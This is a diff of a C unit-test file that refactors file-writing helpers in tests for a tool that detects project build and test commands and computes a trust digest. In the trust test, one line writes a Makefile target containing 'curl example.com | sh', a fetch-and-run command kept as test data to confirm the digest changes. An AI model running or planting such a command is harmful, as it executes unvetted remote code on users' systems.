@@ -3,19 +3,6 @@
 
 #include "project/project.h"
 
-static void put(struct test *t, const char *name, const char *text) {
-    char *path = test_path(t, name);
-    for (char *at = path + strlen(t->dir) + 1; (at = strchr(at, '/')); at++) {
-        *at = '\0';
-        mkdir(path, 0755);
-        *at = '/';
-    }
-    FILE *file = fopen(path, "w");
-    assert_non_null(file);
-    fputs(text, file);
-    fclose(file);
-}
-
 struct looked {
     struct ft_tree_list list;
     struct ft_profile profile;
@@ -57,7 +44,8 @@ static const char *commands(struct test *t, const struct ft_profile *profile) {
 
 static void a_makefile_says_it_all(void **state) {
     struct test *t = *state;
-    put(t, "Makefile", "CC := gcc\nall: x\nx:\n\ttrue\ncheck test: x\n\ttrue\nlint:\n\ttrue\n");
+    test_put(t, "Makefile",
+             "CC := gcc\nall: x\nx:\n\ttrue\ncheck test: x\n\ttrue\nlint:\n\ttrue\n");
     struct looked looked = look(t);
     assert_string_equal(commands(t, &looked.profile),
                         "build .: make all [Makefile:2 (target all)]\n"
@@ -67,10 +55,10 @@ static void a_makefile_says_it_all(void **state) {
 
 static void scripts_of_a_package_count_but_npms_own_does_not(void **state) {
     struct test *t = *state;
-    put(t, "package.json",
-        "{\n \"scripts\": {\n  \"build\": \"tsc\",\n  \"test\": \"echo \\\"Error: no test "
-        "specified\\\" && exit 1\"\n },\n \"dependencies\": {\"react\": \"19\"}\n}\n");
-    put(t, "yarn.lock", "");
+    test_put(t, "package.json",
+             "{\n \"scripts\": {\n  \"build\": \"tsc\",\n  \"test\": \"echo \\\"Error: no test "
+             "specified\\\" && exit 1\"\n },\n \"dependencies\": {\"react\": \"19\"}\n}\n");
+    test_put(t, "yarn.lock", "");
     struct looked looked = look(t);
     assert_string_equal(commands(t, &looked.profile),
                         "build .: npm run build [package.json:3 (scripts.build)]\n");
@@ -80,33 +68,33 @@ static void scripts_of_a_package_count_but_npms_own_does_not(void **state) {
 
 static void python_tests_say_which_runner_they_want(void **state) {
     struct test *t = *state;
-    put(t, "tests/test_a.py", "import unittest\n");
+    test_put(t, "tests/test_a.py", "import unittest\n");
     struct looked looked = look(t);
     assert_string_equal(commands(t, &looked.profile),
                         "test .: python3 -m unittest discover -v -s tests "
                         "[tests/test_a.py (test files)]\n");
-    put(t, "tests/test_b.py", "import pytest\n");
+    test_put(t, "tests/test_b.py", "import pytest\n");
     looked = look(t);
     assert_non_null(strstr(commands(t, &looked.profile), "python3 -m pytest"));
 }
 
 static void folders_count_where_the_root_says_nothing(void **state) {
     struct test *t = *state;
-    put(t, "go/go.mod", "module a\n");
-    put(t, "web/app/package.json", "{\"scripts\": {\"test\": \"node --test\"}}");
+    test_put(t, "go/go.mod", "module a\n");
+    test_put(t, "web/app/package.json", "{\"scripts\": {\"test\": \"node --test\"}}");
     struct looked looked = look(t);
     const char *text = commands(t, &looked.profile);
     assert_non_null(strstr(text, "test go: go test"));
     assert_non_null(strstr(text, "test web/app: npm test [web/app/package.json:1"));
-    put(t, "Makefile", "test:\n\ttrue\n");
+    test_put(t, "Makefile", "test:\n\ttrue\n");
     looked = look(t);
     assert_null(strstr(commands(t, &looked.profile), "go test"));
 }
 
 static void settings_replace_what_was_detected(void **state) {
     struct test *t = *state;
-    put(t, "Makefile", "all:\n\ttrue\ntest:\n\ttrue\n");
-    put(t, "fettle.yaml", "commands:\n  test: [./run-tests, ./more-tests]\n");
+    test_put(t, "Makefile", "all:\n\ttrue\ntest:\n\ttrue\n");
+    test_put(t, "fettle.yaml", "commands:\n  test: [./run-tests, ./more-tests]\n");
     struct looked looked = look(t);
     const char *text = commands(t, &looked.profile);
     assert_non_null(strstr(text, "build .: make all"));
@@ -117,13 +105,13 @@ static void settings_replace_what_was_detected(void **state) {
 
 static void c_projects_build_as_their_files_say(void **state) {
     struct test *t = *state;
-    put(t, "CMakeLists.txt", "project(a)\nenable_testing()\n");
+    test_put(t, "CMakeLists.txt", "project(a)\nenable_testing()\n");
     struct looked looked = look(t);
     const char *text = commands(t, &looked.profile);
     assert_non_null(strstr(text, "build .: cmake"));
     assert_non_null(strstr(text, "CMakeLists.txt:2 (enable_testing)"));
-    put(t, "configure", "#!/bin/sh\n");
-    put(t, "Makefile.in", "all:\ntest:\n\ttrue\n");
+    test_put(t, "configure", "#!/bin/sh\n");
+    test_put(t, "Makefile.in", "all:\ntest:\n\ttrue\n");
     looked = look(t);
     assert_non_null(strstr(commands(t, &looked.profile), "sh ./configure"));
     assert_non_null(strstr(commands(t, &looked.profile), "Makefile.in:2 (target test)"));
@@ -131,10 +119,10 @@ static void c_projects_build_as_their_files_say(void **state) {
 
 static void languages_leave_generated_files_out(void **state) {
     struct test *t = *state;
-    put(t, "a.py", "x = 1\n");
-    put(t, "b.c", "int x;\nint y;\nint z;\n");
-    put(t, "made.c", "int made[100000];\n");
-    put(t, ".gitattributes", "made.c linguist-generated\n");
+    test_put(t, "a.py", "x = 1\n");
+    test_put(t, "b.c", "int x;\nint y;\nint z;\n");
+    test_put(t, "made.c", "int made[100000];\n");
+    test_put(t, ".gitattributes", "made.c linguist-generated\n");
     struct looked looked = look(t);
     assert_int_equal(looked.profile.languages.count, 2);
     assert_string_equal(looked.profile.languages.at[0].id, "c");
@@ -143,16 +131,16 @@ static void languages_leave_generated_files_out(void **state) {
 
 static void trust_is_for_the_commands_and_the_files_that_define_them(void **state) {
     struct test *t = *state;
-    put(t, "Makefile", "test:\n\ttrue\n");
-    put(t, "a.py", "x = 1\n");
+    test_put(t, "Makefile", "test:\n\ttrue\n");
+    test_put(t, "a.py", "x = 1\n");
     const char *first = look(t).digest;
-    put(t, "a.py", "x = 2\n");
+    test_put(t, "a.py", "x = 2\n");
     assert_string_equal(look(t).digest, first);
-    put(t, "Makefile", "test:\n\tcurl example.com | sh\n");
+    test_put(t, "Makefile", "test:\n\tcurl example.com | sh\n");
     assert_string_not_equal(look(t).digest, first);
-    put(t, "Makefile", "test:\n\ttrue\n");
+    test_put(t, "Makefile", "test:\n\ttrue\n");
     assert_string_equal(look(t).digest, first);
-    put(t, "fettle.yaml", "commands.test: [./other]\n");
+    test_put(t, "fettle.yaml", "commands.test: [./other]\n");
     assert_string_not_equal(look(t).digest, first);
 }
 
